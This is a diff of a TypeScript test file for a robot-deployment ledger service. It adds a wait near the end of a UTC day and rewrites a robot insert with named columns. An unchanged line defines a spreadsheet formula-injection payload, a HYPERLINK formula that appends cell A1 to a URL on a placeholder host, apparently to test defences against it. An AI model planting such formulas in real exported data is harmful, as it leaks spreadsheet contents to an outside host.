@@ -1,6 +1,7 @@
 import { readFile } from "node:fs/promises";
 import { join } from "node:path";
 import { DatabaseSync } from "node:sqlite";
+import { setTimeout as sleep } from "node:timers/promises";
 
 import type { Page } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, it, onTestFinished } from "vitest";
@@ -17,7 +18,7 @@ const SOON = { timeout: 15_000 };
 const HOUR_S = 3600;
 const DAY_MS = 86_400_000;
 /** Start of a day in UTC; the ledger ends before it. */
-const TODAY_MS = Math.floor(Date.now() / DAY_MS) * DAY_MS;
+const TODAY_MS = await startOfDay();
 
 /** A formula, as whoever registers a robot may name it. */
 const FORMULA = '=HYPERLINK("http://x/?"&A1,"y")';
@@ -29,7 +30,8 @@ function fillLedger(running: RunningService, robots: readonly string[], days: nu
   using database = new DatabaseSync(join(running.data_directory, "service.db"));
   const organization_id = String(database.prepare("select id from organizations").get()?.["id"]);
   database.exec(`begin;
-    insert into robots values ('rob_1', '${organization_id}', 'r', 't', 'eu', 'd', null, '{}', null, '', '', '', '', '');
+    insert into robots (id, organization_id, name, robot_type_id, region, configuration_digest, labels, view, created_at, updated_at, refitted_at, changed_at)
+      values ('rob_1', '${organization_id}', 'r', 't', 'eu', 'd', '{}', '', '', '', '', '');
     insert into models (slug, display_name, default_checkpoint_id, created_at) values ('m', 'm', 'c', '');
     insert into checkpoints (id, model_slug, requirements, created_at) values ('c', 'm', '{}', '');
     insert into deployments (id, organization_id, robot_id, model_slug, checkpoint_id, region, status, generation_id, created_at, retired_at)
@@ -48,6 +50,13 @@ function fillLedger(running: RunningService, robots: readonly string[], days: nu
     }
   }
   database.exec("commit");
+}
+
+/** A day that is nearly over is waited out: the page would soon show the next one. */
+async function startOfDay(): Promise<number> {
+  const left_ms = DAY_MS - (Date.now() % DAY_MS);
+  if (left_ms < 120_000) await sleep(left_ms);
+  return Math.floor(Date.now() / DAY_MS) * DAY_MS;
 }
 
 const dayOf = (ms: number) => new Date(ms).toISOString().slice(0, 10);
